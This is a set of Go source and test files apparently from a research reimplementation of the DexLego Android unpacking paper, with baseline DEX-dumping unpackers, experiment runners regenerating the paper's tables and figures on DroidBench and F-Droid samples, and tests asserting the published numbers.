type Unpacker struct {
	name string
}

// DexHunter returns the DexHunter baseline (ESORICS'15).
func DexHunter() *Unpacker { return &Unpacker{name: "DexHunter"} }

// AppSpear returns the AppSpear baseline (RAID'15).
func AppSpear() *Unpacker { return &Unpacker{name: "AppSpear"} }

// Name returns the system name.
func (u *Unpacker) Name() string { return u.name }

// Unpack executes the packed application and dumps the loaded DEX files.
// installNatives registers the packer shell's native code (may be nil for
// unpacked apps); drive runs the app (nil launches the main activity).
func (u *Unpacker) Unpack(pkg *apk.APK, installNatives func(*art.Runtime), drive func(*art.Runtime) error) ([]*dex.File, error) {
	rt := art.NewRuntime(art.DefaultPhone())
	if installNatives != nil {
		installNatives(rt)
	}
	if err := rt.LoadAPK(pkg); err != nil {
		return nil, fmt.Errorf("unpacker: %s: %w", u.name, err)
	}
	if drive == nil {
		drive = func(rt *art.Runtime) error {
			_, err := rt.LaunchActivity()
			return err
		}
	}
	// The app may crash after unpacking; the dump still proceeds, exactly
	// like attaching at the dump point on a device.
	runErr := drive(rt)
	dumped := u.dump(rt)
	if len(dumped) == 0 && runErr != nil {
		return nil, fmt.Errorf("unpacker: %s: app failed before dump: %w", u.name, runErr)
	}
	return dumped, nil
}

// dump snapshots every loaded DEX with live method bodies.
func (u *Unpacker) dump(rt *art.Runtime) []*dex.File {
	var out []*dex.File
	for _, f := range rt.LoadedDexes() {
		out = append(out, snapshotDex(rt, f))
	}
	return out
}

// snapshotDex clones the file, replacing each method body with the current
// in-memory instruction array of the corresponding runtime method.
func snapshotDex(rt *art.Runtime, f *dex.File) *dex.File {
	clone := &dex.File{
		Strings: append([]string(nil), f.Strings...),
		Types:   append([]uint32(nil), f.Types...),
		Protos:  append([]dex.Proto(nil), f.Protos...),
		Fields:  append([]dex.FieldID(nil), f.Fields...),
		Methods: append([]dex.MethodID(nil), f.Methods...),
	}
	for ci := range f.Classes {
		cd := f.Classes[ci] // shallow copy of the def
		cd.StaticFields = append([]dex.EncodedField(nil), f.Classes[ci].StaticFields...)
		cd.InstFields = append([]dex.EncodedField(nil), f.Classes[ci].InstFields...)
		cd.StaticValues = append([]dex.Value(nil), f.Classes[ci].StaticValues...)
		cd.Interfaces = append([]uint32(nil), f.Classes[ci].Interfaces...)
		desc := f.TypeName(cd.Class)
		cls, err := rt.FindClass(desc)
		snapshotMethods := func(src []dex.EncodedMethod) []dex.EncodedMethod {
			out := make([]dex.EncodedMethod, len(src))
			for i, em := range src {
				out[i] = em
				out[i].Code = em.Code.Clone()
				if err != nil || out[i].Code == nil {
					continue
				}
				ref := f.MethodAt(em.Method)
				if m := cls.FindMethod(ref.Name, ref.Signature); m != nil && m.Insns != nil {
					out[i].Code.Insns = append([]uint16(nil), m.Insns...)
					out[i].Code.RegistersSize = uint16(m.RegistersSize)
					out[i].Code.InsSize = uint16(m.InsSize)
					out[i].Code.Tries = m.Tries
				}
			}
			return out
		}
		cd.DirectMeths = snapshotMethods(f.Classes[ci].DirectMeths)
		cd.VirtualMeths = snapshotMethods(f.Classes[ci].VirtualMeths)
		clone.Classes = append(clone.Classes, cd)
	}
	return clone
}
