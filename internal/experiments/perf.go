package experiments

import (
	"fmt"
	"strings"
	"time"

	"dexlego/internal/cfbench"
	"dexlego/internal/workload"
)

// Figure6Result carries the CF-Bench comparison of Fig. 6.
type Figure6Result struct {
	cfbench.Comparison
}

// RunFigure6 runs the CF-Bench pair. Absolute scores are host-dependent;
// the paper's shape is Java ~7.5x, native ~1.4x, overall ~2.3x slowdown.
func RunFigure6() (*Figure6Result, error) {
	cmp, err := cfbench.Run(cfbench.DefaultConfig())
	if err != nil {
		return nil, err
	}
	return &Figure6Result{Comparison: cmp}, nil
}

// Figure6String renders the CF-Bench comparison.
func (r *Figure6Result) Figure6String() string {
	var sb strings.Builder
	sb.WriteString("Figure 6: Performance Measured by CF-Bench (ops/ms, higher is better)\n")
	fmt.Fprintf(&sb, "%-16s %12s %12s %12s\n", "", "Java", "Native", "Overall")
	fmt.Fprintf(&sb, "%-16s %12.0f %12.0f %12.0f\n", "Unmodified ART",
		r.Unmodified.Java, r.Unmodified.Native, r.Unmodified.Overall)
	fmt.Fprintf(&sb, "%-16s %12.0f %12.0f %12.0f\n", "DexLego",
		r.DexLego.Java, r.DexLego.Native, r.DexLego.Overall)
	j, n, o := r.Slowdowns()
	fmt.Fprintf(&sb, "%-16s %11.1fx %11.1fx %11.1fx\n", "Slowdown", j, n, o)
	return sb.String()
}

// Table8Row is one application's launch-time comparison.
type Table8Row struct {
	App     string
	Version string
	Orig    cfbench.LaunchSample
	DexLego cfbench.LaunchSample
}

// Slowdown returns the launch-time ratio.
func (r Table8Row) Slowdown() float64 {
	if r.Orig.Mean == 0 {
		return 0
	}
	return float64(r.DexLego.Mean) / float64(r.Orig.Mean)
}

// RunTable8 measures the launch time of the three popular applications
// with and without DexLego over the given number of runs (the paper uses
// 30).
func RunTable8(runs int) ([]Table8Row, error) {
	apps, err := workload.PopularApps()
	if err != nil {
		return nil, err
	}
	var rows []Table8Row
	for _, app := range apps {
		orig, err := cfbench.MeasureLaunch(app.APK, runs, false)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", app.Name, err)
		}
		lego, err := cfbench.MeasureLaunch(app.APK, runs, true)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", app.Name, err)
		}
		rows = append(rows, Table8Row{
			App: app.Name, Version: app.Version, Orig: orig, DexLego: lego,
		})
	}
	return rows, nil
}

// Table8String renders Table VIII.
func Table8String(rows []Table8Row) string {
	var sb strings.Builder
	sb.WriteString("Table VIII: Time Consumption of DexLego (launch time)\n")
	fmt.Fprintf(&sb, "%-12s %-10s %14s %12s %14s %12s %9s\n",
		"Application", "Version", "Mean", "STD", "Mean(DL)", "STD(DL)", "Slowdown")
	ms := func(d time.Duration) string {
		return fmt.Sprintf("%.2fms", float64(d.Microseconds())/1000)
	}
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-12s %-10s %14s %12s %14s %12s %8.1fx\n",
			r.App, r.Version, ms(r.Orig.Mean), ms(r.Orig.Std),
			ms(r.DexLego.Mean), ms(r.DexLego.Std), r.Slowdown())
	}
	return sb.String()
}
