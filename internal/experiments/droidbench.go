// Package experiments regenerates every table and figure of the paper's
// evaluation section (Tables I-VIII, Figures 5-6) from the substrates in
// this repository. Each experiment returns a structured result with a
// formatted rendering, so the cmd/ tools, the benchmark harness and
// EXPERIMENTS.md all draw from the same computation.
package experiments

import (
	"fmt"
	"sort"
	"strings"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/dex"
	"dexlego/internal/droidbench"
	"dexlego/internal/dyntaint"
	"dexlego/internal/packer"
	"dexlego/internal/pipeline"
	"dexlego/internal/taint"
	"dexlego/internal/unpacker"

	root "dexlego"
)

// ToolCounts is one TP/FP cell pair of Tables II/III.
type ToolCounts struct {
	TP int
	FP int
}

// SampleVerdicts records the per-tool decisions for one sample.
type SampleVerdicts struct {
	Name     string
	Leaky    bool
	Original map[string]bool
	DexLego  map[string]bool
	Dumped   map[string]bool // DexHunter/AppSpear processed (Table III)
}

// DroidBenchResult aggregates Tables II and III plus Figure 5 inputs.
type DroidBenchResult struct {
	Samples int
	Malware int

	Original map[string]ToolCounts // Table II left
	DexLego  map[string]ToolCounts // Table II right / Table III right
	Dumped   map[string]ToolCounts // Table III: DexHunter / AppSpear

	PerSample []SampleVerdicts
}

// tools lists the three evaluated static analyses in the paper's order.
func tools() []taint.Profile { return taint.Profiles() }

// RunDroidBench executes the full Table II + Table III experiment: analyze
// every sample's original APK, its 360-packed-then-dumped form, and its
// DexLego-revealed form with all three tools. The 134 samples run over the
// batch pipeline with GOMAXPROCS workers.
func RunDroidBench() (*DroidBenchResult, error) { return RunDroidBenchJobs(0) }

// RunDroidBenchJobs is RunDroidBench with an explicit worker cap (<= 0
// selects runtime.GOMAXPROCS). Samples are independent — each builds its
// own APK, packer shell and runtimes — and verdicts are tallied in suite
// order, so the result is identical for any cap.
func RunDroidBenchJobs(workers int) (*DroidBenchResult, error) {
	res := &DroidBenchResult{
		Original: map[string]ToolCounts{},
		DexLego:  map[string]ToolCounts{},
		Dumped:   map[string]ToolCounts{},
	}
	suite := droidbench.Suite()
	verdicts, errs := pipeline.Map(pipeline.New(workers), len(suite),
		func(i int) (SampleVerdicts, error) { return runDroidBenchSample(suite[i]) })
	if err := pipeline.FirstError(errs); err != nil {
		return nil, err
	}
	for i, s := range suite {
		res.Samples++
		if s.Leaky {
			res.Malware++
		}
		sv := verdicts[i]
		for _, tool := range tools() {
			tally(res.Original, tool.Name, s.Leaky, sv.Original[tool.Name])
			tally(res.Dumped, tool.Name, s.Leaky, sv.Dumped[tool.Name])
			tally(res.DexLego, tool.Name, s.Leaky, sv.DexLego[tool.Name])
		}
		res.PerSample = append(res.PerSample, sv)
	}
	return res, nil
}

// runDroidBenchSample processes one sample end to end; it owns every
// runtime, packer and unpacker it touches, so samples can run in parallel.
func runDroidBenchSample(s *droidbench.Sample) (SampleVerdicts, error) {
	sv := SampleVerdicts{
		Name: s.Name, Leaky: s.Leaky,
		Original: map[string]bool{},
		DexLego:  map[string]bool{},
		Dumped:   map[string]bool{},
	}
	p360, err := packer.ByName("360")
	if err != nil {
		return sv, err
	}
	dh := unpacker.DexHunter()
	pkg, err := s.Build()
	if err != nil {
		return sv, err
	}

	// Original APK.
	orig, err := analysisInput(pkg)
	if err != nil {
		return sv, fmt.Errorf("%s: %w", s.Name, err)
	}
	for _, tool := range tools() {
		r, err := taint.Analyze(orig, tool)
		if err != nil {
			return sv, fmt.Errorf("%s/%s: %w", s.Name, tool.Name, err)
		}
		sv.Original[tool.Name] = r.Leaky()
	}

	// 360-packed, then dumped by DexHunter/AppSpear (identical output).
	packed, err := p360.Pack(pkg)
	if err != nil {
		return sv, fmt.Errorf("%s: pack: %w", s.Name, err)
	}
	install := func(rt *art.Runtime) {
		p360.InstallNatives(rt)
		s.InstallNatives(rt)
	}
	dumped, err := dh.Unpack(packed, install, nil)
	if err != nil {
		return sv, fmt.Errorf("%s: unpack: %w", s.Name, err)
	}
	for _, tool := range tools() {
		r, err := taint.Analyze(dumped, tool)
		if err != nil {
			return sv, fmt.Errorf("%s/%s dumped: %w", s.Name, tool.Name, err)
		}
		sv.Dumped[tool.Name] = r.Leaky()
	}

	// DexLego-revealed (from the packed APK, like the paper).
	revealed, err := root.Reveal(packed, root.Options{
		InstallNatives: install,
	})
	if err != nil {
		return sv, fmt.Errorf("%s: reveal: %w", s.Name, err)
	}
	for _, tool := range tools() {
		r, err := taint.Analyze([]*dex.File{revealed.RevealedDex}, tool)
		if err != nil {
			return sv, fmt.Errorf("%s/%s revealed: %w", s.Name, tool.Name, err)
		}
		sv.DexLego[tool.Name] = r.Leaky()
	}
	return sv, nil
}

func tally(m map[string]ToolCounts, tool string, leaky, detected bool) {
	c := m[tool]
	if detected {
		if leaky {
			c.TP++
		} else {
			c.FP++
		}
	}
	m[tool] = c
}

// analysisInput parses the APK's classes.dex for static analysis.
func analysisInput(pkg *apk.APK) ([]*dex.File, error) {
	data, err := pkg.Dex()
	if err != nil {
		return nil, err
	}
	f, err := dex.Read(data)
	if err != nil {
		return nil, err
	}
	return []*dex.File{f}, nil
}

// FMeasure computes the paper's Formula (1).
func FMeasure(tp, fp, samples, malware int) float64 {
	fn := malware - tp
	tn := samples - malware - fp
	sens := float64(tp) / float64(tp+fn)
	spec := float64(tn) / float64(tn+fp)
	if sens+spec == 0 {
		return 0
	}
	return 2 * sens * spec / (sens + spec)
}

// Figure5Row is one tool's F-measures across the four configurations.
type Figure5Row struct {
	Tool                                   string
	Original, DexHunter, AppSpear, DexLego float64
}

// Figure5 derives the F-measure chart from the DroidBench result.
func Figure5(r *DroidBenchResult) []Figure5Row {
	var rows []Figure5Row
	for _, tool := range tools() {
		o := r.Original[tool.Name]
		d := r.Dumped[tool.Name]
		x := r.DexLego[tool.Name]
		rows = append(rows, Figure5Row{
			Tool:      tool.Name,
			Original:  FMeasure(o.TP, o.FP, r.Samples, r.Malware),
			DexHunter: FMeasure(d.TP, d.FP, r.Samples, r.Malware),
			AppSpear:  FMeasure(d.TP, d.FP, r.Samples, r.Malware),
			DexLego:   FMeasure(x.TP, x.FP, r.Samples, r.Malware),
		})
	}
	return rows
}

// Table2String renders the Table II layout.
func (r *DroidBenchResult) Table2String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Table II: Analysis Result of Static Analysis Tools\n")
	fmt.Fprintf(&sb, "%-12s %8s %9s | %4s %4s | %4s %4s\n",
		"Tool", "#Samples", "#Malware", "TP", "FP", "TP", "FP")
	fmt.Fprintf(&sb, "%-12s %8s %9s | %9s | %9s\n", "", "", "", " Original", "  DexLego")
	for _, tool := range tools() {
		o, x := r.Original[tool.Name], r.DexLego[tool.Name]
		fmt.Fprintf(&sb, "%-12s %8d %9d | %4d %4d | %4d %4d\n",
			tool.Name, r.Samples, r.Malware, o.TP, o.FP, x.TP, x.FP)
	}
	return sb.String()
}

// Table3String renders the Table III layout.
func (r *DroidBenchResult) Table3String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Table III: Analysis Result of Packed Samples (360 packer)\n")
	fmt.Fprintf(&sb, "%-12s %8s %9s | %4s %4s | %4s %4s\n",
		"Tool", "#Samples", "#Malware", "TP", "FP", "TP", "FP")
	fmt.Fprintf(&sb, "%-12s %8s %9s | %9s | %9s\n", "", "", "", "  DH / AS", "  DexLego")
	for _, tool := range tools() {
		d, x := r.Dumped[tool.Name], r.DexLego[tool.Name]
		fmt.Fprintf(&sb, "%-12s %8d %9d | %4d %4d | %4d %4d\n",
			tool.Name, r.Samples, r.Malware, d.TP, d.FP, x.TP, x.FP)
	}
	return sb.String()
}

// Figure5String renders the F-measure chart data.
func Figure5String(rows []Figure5Row) string {
	var sb strings.Builder
	sb.WriteString("Figure 5: F-measures of Static Analysis Tools\n")
	fmt.Fprintf(&sb, "%-12s %9s %10s %9s %8s\n",
		"Tool", "Original", "DexHunter", "AppSpear", "DexLego")
	for _, row := range rows {
		fmt.Fprintf(&sb, "%-12s %8.0f%% %9.0f%% %8.0f%% %7.0f%%\n",
			row.Tool, 100*row.Original, 100*row.DexHunter, 100*row.AppSpear, 100*row.DexLego)
	}
	return sb.String()
}

// Table4Row is one sample's dynamic-analysis comparison.
type Table4Row struct {
	Sample     string
	Leaks      int
	TaintDroid int
	TaintART   int
	DexLegoHD  int
}

// RunTable4 compares TaintDroid and TaintART with DexLego+HornDroid on the
// five samples of Table IV.
func RunTable4() ([]Table4Row, error) {
	names := []string{"Button1", "Button3", "EmulatorDetection1", "ImplicitFlow1", "PrivateDataLeak3"}
	var rows []Table4Row
	for _, name := range names {
		s := droidbench.ByName(name)
		if s == nil {
			return nil, fmt.Errorf("experiments: sample %s missing", name)
		}
		pkg, err := s.Build()
		if err != nil {
			return nil, err
		}
		row := Table4Row{Sample: name, Leaks: s.LeakCount}
		// Dynamic tools run their own (launch-only) exploration.
		td, err := dyntaint.TaintDroid().Analyze(pkg, s.InstallNatives, nil)
		if err != nil {
			return nil, err
		}
		row.TaintDroid = td.Count()
		ta, err := dyntaint.TaintART().Analyze(pkg, s.InstallNatives, nil)
		if err != nil {
			return nil, err
		}
		row.TaintART = ta.Count()
		// DexLego (with its coverage driver) feeding HornDroid.
		revealed, err := root.Reveal(pkg, root.Options{Natives: s.Natives()})
		if err != nil {
			return nil, err
		}
		hd, err := taint.Analyze([]*dex.File{revealed.RevealedDex}, taint.HornDroid())
		if err != nil {
			return nil, err
		}
		row.DexLegoHD = hd.Count()
		rows = append(rows, row)
	}
	return rows, nil
}

// Table4String renders Table IV.
func Table4String(rows []Table4Row) string {
	var sb strings.Builder
	sb.WriteString("Table IV: Analysis Result of Dynamic Analysis Tools and DexLego\n")
	fmt.Fprintf(&sb, "%-22s %6s %4s %4s %14s\n", "Sample", "Leak#", "TD", "TA", "DexLego + HD")
	for _, row := range rows {
		fmt.Fprintf(&sb, "%-22s %6d %4d %4d %14d\n",
			row.Sample, row.Leaks, row.TaintDroid, row.TaintART, row.DexLegoHD)
	}
	return sb.String()
}

// MismatchedSamples lists samples whose per-tool verdicts differ between
// two maps (debugging aid for suite calibration).
func (r *DroidBenchResult) MismatchedSamples(tool string, wantOrig, wantRev func(s SampleVerdicts) bool) []string {
	var out []string
	for _, sv := range r.PerSample {
		if wantOrig != nil && sv.Original[tool] != wantOrig(sv) {
			out = append(out, sv.Name+"(orig)")
		}
		if wantRev != nil && sv.DexLego[tool] != wantRev(sv) {
			out = append(out, sv.Name+"(rev)")
		}
	}
	sort.Strings(out)
	return out
}
