package experiments

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"dexlego/internal/art"
	"dexlego/internal/collector"
	"dexlego/internal/coverage"
	"dexlego/internal/dex"
	"dexlego/internal/forceexec"
	"dexlego/internal/fuzzer"
	"dexlego/internal/workload"
)

// Table6Row is one F-Droid sample of Table VI.
type Table6Row struct {
	Package      string
	Version      string
	Instructions int
	DumpBytes    int64
}

// RunTable6 generates the F-Droid applications, executes each under JIT
// collection with the fuzzer, and reports the total collection-file sizes.
func RunTable6(dir string) ([]Table6Row, error) {
	apps, err := workload.FDroidApps()
	if err != nil {
		return nil, err
	}
	var rows []Table6Row
	for i, app := range apps {
		rt := art.NewRuntime(art.DefaultPhone())
		for key, fn := range app.Natives {
			rt.RegisterNative(key, fn)
		}
		col := collector.New()
		rt.AddHooks(col.Hooks())
		if err := rt.LoadAPK(app.APK); err != nil {
			return nil, err
		}
		fz := fuzzer.New(int64(i) + 1)
		if err := fz.Drive(rt, nil); err != nil {
			return nil, err
		}
		sub := filepath.Join(dir, fmt.Sprintf("dump%d", i))
		if err := col.Result().WriteFiles(sub); err != nil {
			return nil, err
		}
		var total int64
		entries, err := os.ReadDir(sub)
		if err != nil {
			return nil, err
		}
		for _, e := range entries {
			info, err := e.Info()
			if err != nil {
				return nil, err
			}
			total += info.Size()
		}
		rows = append(rows, Table6Row{
			Package:      app.Package,
			Version:      app.Version,
			Instructions: app.Insns,
			DumpBytes:    total,
		})
	}
	return rows, nil
}

// Table6String renders Table VI.
func Table6String(rows []Table6Row) string {
	var sb strings.Builder
	sb.WriteString("Table VI: Samples from F-Droid\n")
	fmt.Fprintf(&sb, "%-42s %-10s %14s %12s\n", "Package Name", "Version", "# Instructions", "Dump Size")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-42s %-10s %14d %9.2f KB\n",
			r.Package, r.Version, r.Instructions, float64(r.DumpBytes)/1024)
	}
	return sb.String()
}

// Table7Result holds the average coverage of Table VII.
type Table7Result struct {
	Sapienz coverage.Report
	Forced  coverage.Report
	PerApp  []AppCoverage
}

// AppCoverage is one application's coverage pair.
type AppCoverage struct {
	Package string
	Sapienz coverage.Report
	Forced  coverage.Report
}

// RunTable7 measures Sapienz-only coverage versus Sapienz-plus-force-
// execution coverage over the five F-Droid applications.
func RunTable7() (*Table7Result, error) {
	return runTable7(false)
}

// RunTable7ExceptionEdges is the ablation of the paper's future-work
// extension: force execution additionally treats try/catch edges as
// forceable branches, recovering the "instructions in exception handlers"
// coverage-loss category.
func RunTable7ExceptionEdges() (*Table7Result, error) {
	return runTable7(true)
}

func runTable7(exceptionEdges bool) (*Table7Result, error) {
	apps, err := workload.FDroidApps()
	if err != nil {
		return nil, err
	}
	res := &Table7Result{}
	var sumS, sumF [5]float64
	for i, app := range apps {
		data, err := app.APK.Dex()
		if err != nil {
			return nil, err
		}
		f, err := dex.Read(data)
		if err != nil {
			return nil, err
		}
		files := []*dex.File{f}
		install := func(rt *art.Runtime) {
			for key, fn := range app.Natives {
				rt.RegisterNative(key, fn)
			}
		}
		fz := fuzzer.New(int64(i) + 1)
		driver := func(rt *art.Runtime) error { return fz.Drive(rt, nil) }

		// Sapienz alone.
		base, err := coverage.NewTracker(files)
		if err != nil {
			return nil, err
		}
		rt := art.NewRuntime(art.DefaultPhone())
		install(rt)
		rt.AddHooks(base.Hooks())
		if err := rt.LoadAPK(app.APK); err != nil {
			return nil, err
		}
		if err := driver(rt); err != nil {
			return nil, err
		}
		sapienz := base.Report()

		// Sapienz + force execution.
		forcedTracker, err := coverage.NewTracker(files)
		if err != nil {
			return nil, err
		}
		eng := forceexec.New(app.APK, files)
		eng.InstallNatives = install
		eng.Driver = driver
		eng.ForceExceptionEdges = exceptionEdges
		if _, err := eng.Run(forcedTracker); err != nil {
			return nil, err
		}
		forced := forcedTracker.Report()

		res.PerApp = append(res.PerApp, AppCoverage{
			Package: app.Package, Sapienz: sapienz, Forced: forced,
		})
		for j, pair := range [][2]coverage.Ratio{
			{sapienz.Class, forced.Class}, {sapienz.Method, forced.Method},
			{sapienz.Line, forced.Line}, {sapienz.Branch, forced.Branch},
			{sapienz.Instruction, forced.Instruction},
		} {
			sumS[j] += pair[0].Percent()
			sumF[j] += pair[1].Percent()
		}
	}
	n := float64(len(apps))
	mk := func(sums [5]float64) coverage.Report {
		return coverage.Report{
			Class:       coverage.Ratio{Covered: int(sums[0] / n), Total: 100},
			Method:      coverage.Ratio{Covered: int(sums[1] / n), Total: 100},
			Line:        coverage.Ratio{Covered: int(sums[2] / n), Total: 100},
			Branch:      coverage.Ratio{Covered: int(sums[3] / n), Total: 100},
			Instruction: coverage.Ratio{Covered: int(sums[4] / n), Total: 100},
		}
	}
	res.Sapienz = mk(sumS)
	res.Forced = mk(sumF)
	return res, nil
}

// Table7String renders Table VII (percentages averaged over the samples).
func Table7String(r *Table7Result) string {
	var sb strings.Builder
	sb.WriteString("Table VII: Code Coverage with F-Droid Applications\n")
	fmt.Fprintf(&sb, "%-20s %6s %7s %5s %7s %12s\n",
		"", "Class", "Method", "Line", "Branch", "Instruction")
	row := func(name string, rep coverage.Report) {
		fmt.Fprintf(&sb, "%-20s %5d%% %6d%% %4d%% %6d%% %11d%%\n", name,
			rep.Class.Covered, rep.Method.Covered, rep.Line.Covered,
			rep.Branch.Covered, rep.Instruction.Covered)
	}
	row("Sapienz", r.Sapienz)
	row("Sapienz + DexLego", r.Forced)
	return sb.String()
}
