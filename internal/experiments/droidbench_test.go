package experiments_test

import (
	"math"
	"testing"

	"dexlego/internal/experiments"
)

// TestTables2And3AndFigure5 regenerates Tables II/III and Figure 5 and
// asserts the paper's exact numbers.
func TestTables2And3AndFigure5(t *testing.T) {
	res, err := experiments.RunDroidBench()
	if err != nil {
		t.Fatal(err)
	}
	if res.Samples != 134 || res.Malware != 111 {
		t.Fatalf("suite = %d/%d, want 134/111", res.Samples, res.Malware)
	}

	type cell struct{ tp, fp int }
	wantOriginal := map[string]cell{
		"FlowDroid": {81, 10},
		"DroidSafe": {95, 12},
		"HornDroid": {98, 9},
	}
	wantDexLego := map[string]cell{
		"FlowDroid": {95, 4},
		"DroidSafe": {105, 7},
		"HornDroid": {106, 4},
	}
	wantDumped := map[string]cell{
		"FlowDroid": {84, 10},
		"DroidSafe": {98, 12},
		"HornDroid": {101, 9},
	}
	for tool, want := range wantOriginal {
		got := res.Original[tool]
		if got.TP != want.tp || got.FP != want.fp {
			t.Errorf("Table II original %s = TP %d FP %d, want TP %d FP %d",
				tool, got.TP, got.FP, want.tp, want.fp)
		}
	}
	for tool, want := range wantDexLego {
		got := res.DexLego[tool]
		if got.TP != want.tp || got.FP != want.fp {
			t.Errorf("Table II DexLego %s = TP %d FP %d, want TP %d FP %d",
				tool, got.TP, got.FP, want.tp, want.fp)
		}
	}
	for tool, want := range wantDumped {
		got := res.Dumped[tool]
		if got.TP != want.tp || got.FP != want.fp {
			t.Errorf("Table III DexHunter/AppSpear %s = TP %d FP %d, want TP %d FP %d",
				tool, got.TP, got.FP, want.tp, want.fp)
		}
	}

	// Figure 5 shape: paper reports 63->84, 61->80, 72->89 (percent), with
	// DexHunter/AppSpear improving by less than 3 points.
	rows := experiments.Figure5(res)
	wantF := map[string][2]float64{
		"FlowDroid": {0.63, 0.84},
		"DroidSafe": {0.61, 0.80},
		"HornDroid": {0.72, 0.89},
	}
	for _, row := range rows {
		want := wantF[row.Tool]
		if math.Abs(row.Original-want[0]) > 0.02 {
			t.Errorf("Figure 5 %s original F = %.3f, want ~%.2f", row.Tool, row.Original, want[0])
		}
		if math.Abs(row.DexLego-want[1]) > 0.02 {
			t.Errorf("Figure 5 %s DexLego F = %.3f, want ~%.2f", row.Tool, row.DexLego, want[1])
		}
		if row.DexHunter-row.Original > 0.03 {
			t.Errorf("Figure 5 %s DexHunter improvement = %.3f, want < 0.03",
				row.Tool, row.DexHunter-row.Original)
		}
		if row.DexLego <= row.DexHunter {
			t.Errorf("Figure 5 %s: DexLego (%.3f) must beat DexHunter (%.3f)",
				row.Tool, row.DexLego, row.DexHunter)
		}
	}

	// Renderings must be well formed.
	for _, s := range []string{res.Table2String(), res.Table3String(),
		experiments.Figure5String(rows)} {
		if len(s) < 50 {
			t.Errorf("suspiciously short rendering: %q", s)
		}
	}
}

// TestTable4 regenerates the dynamic-analysis comparison and asserts the
// paper's exact detection counts.
func TestTable4(t *testing.T) {
	rows, err := experiments.RunTable4()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][4]int{ // leaks, TD, TA, DexLego+HD
		"Button1":            {1, 0, 0, 1},
		"Button3":            {2, 0, 0, 2},
		"EmulatorDetection1": {1, 0, 1, 1},
		"ImplicitFlow1":      {2, 0, 0, 2},
		"PrivateDataLeak3":   {2, 1, 1, 1},
	}
	if len(rows) != len(want) {
		t.Fatalf("got %d rows", len(rows))
	}
	for _, row := range rows {
		w := want[row.Sample]
		got := [4]int{row.Leaks, row.TaintDroid, row.TaintART, row.DexLegoHD}
		if got != w {
			t.Errorf("%s = %v, want %v", row.Sample, got, w)
		}
	}
	if s := experiments.Table4String(rows); len(s) < 50 {
		t.Errorf("short rendering %q", s)
	}
}

func TestFMeasureFormula(t *testing.T) {
	// Perfect classifier.
	if f := experiments.FMeasure(111, 0, 134, 111); math.Abs(f-1) > 1e-9 {
		t.Errorf("perfect F = %f", f)
	}
	// Degenerate.
	if f := experiments.FMeasure(0, 23, 134, 111); f != 0 {
		t.Errorf("zero F = %f", f)
	}
}
