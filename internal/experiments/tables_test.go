package experiments_test

import (
	"testing"

	"dexlego/internal/experiments"
	"dexlego/internal/packer"
)

func TestTable1(t *testing.T) {
	res, err := experiments.RunTable1()
	if err != nil {
		t.Fatal(err)
	}
	wantInsns := map[string]int{
		"HTMLViewer": 217, "Calculator": 2507,
		"Calendar": 78598, "Contacts": 103602,
	}
	for app, want := range wantInsns {
		if got := res.InsnCounts[app]; got != want {
			t.Errorf("%s instructions = %d, want %d", app, got, want)
		}
	}
	for _, pk := range packer.All() {
		for app := range wantInsns {
			if !res.Success[pk.Name()][app] {
				t.Errorf("DexLego failed to reveal %s packed with %s", app, pk.Name())
			}
		}
	}
	if len(res.Unavailable) != 3 {
		t.Errorf("unavailable services = %d, want 3", len(res.Unavailable))
	}
	if s := res.Table1String(); len(s) < 100 {
		t.Errorf("short rendering: %q", s)
	}
}

func TestTable5(t *testing.T) {
	rows, err := experiments.RunTable5()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int{
		"com.lenovo.anyshare":        4,
		"com.moji.mjweather":         5,
		"com.rongcai.show":           3,
		"com.wawoo.snipershootwar":   4,
		"com.wawoo.gunshootwar":      5,
		"com.alex.lookwifipassword":  2,
		"com.gome.eshopnew":          3,
		"com.szzc.ucar.pilot":        5,
		"com.pingan.pabank.activity": 14,
	}
	if len(rows) != len(want) {
		t.Fatalf("rows = %d, want %d", len(rows), len(want))
	}
	for _, row := range rows {
		if row.Original != 0 {
			t.Errorf("%s: original flows = %d, want 0 (packed)", row.Package, row.Original)
		}
		if row.Revealed != want[row.Package] {
			t.Errorf("%s: revealed flows = %d, want %d",
				row.Package, row.Revealed, want[row.Package])
		}
	}
	if s := experiments.Table5String(rows); len(s) < 100 {
		t.Errorf("short rendering: %q", s)
	}
}

func TestTable6(t *testing.T) {
	rows, err := experiments.RunTable6(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 {
		t.Fatalf("rows = %d, want 5", len(rows))
	}
	wantInsns := []int{8812, 29231, 56565, 57575, 93913}
	var prev int64
	growing := 0
	for i, row := range rows {
		if row.Instructions != wantInsns[i] {
			t.Errorf("%s instructions = %d, want %d", row.Package, row.Instructions, wantInsns[i])
		}
		if row.DumpBytes <= 0 {
			t.Errorf("%s dump size = %d", row.Package, row.DumpBytes)
		}
		if row.DumpBytes > prev {
			growing++
		}
		prev = row.DumpBytes
	}
	// Dump sizes grow with app size, like the paper's Table VI.
	if growing < 4 {
		t.Errorf("dump sizes not monotonically related to app size: %+v", rows)
	}
	if s := experiments.Table6String(rows); len(s) < 100 {
		t.Errorf("short rendering: %q", s)
	}
}

func TestTable7(t *testing.T) {
	res, err := experiments.RunTable7()
	if err != nil {
		t.Fatal(err)
	}
	// Paper: Sapienz 44/37/32/20/32; Sapienz+DexLego 87/88/82/78/82.
	within := func(name string, got, want, tol int) {
		if got < want-tol || got > want+tol {
			t.Errorf("%s = %d%%, want %d%% +/- %d", name, got, want, tol)
		}
	}
	within("sapienz class", res.Sapienz.Class.Covered, 44, 6)
	within("sapienz method", res.Sapienz.Method.Covered, 37, 6)
	within("sapienz line", res.Sapienz.Line.Covered, 32, 6)
	within("sapienz branch", res.Sapienz.Branch.Covered, 20, 6)
	within("sapienz instruction", res.Sapienz.Instruction.Covered, 32, 6)
	within("forced class", res.Forced.Class.Covered, 87, 6)
	within("forced method", res.Forced.Method.Covered, 88, 6)
	within("forced line", res.Forced.Line.Covered, 82, 6)
	within("forced branch", res.Forced.Branch.Covered, 78, 6)
	within("forced instruction", res.Forced.Instruction.Covered, 82, 6)
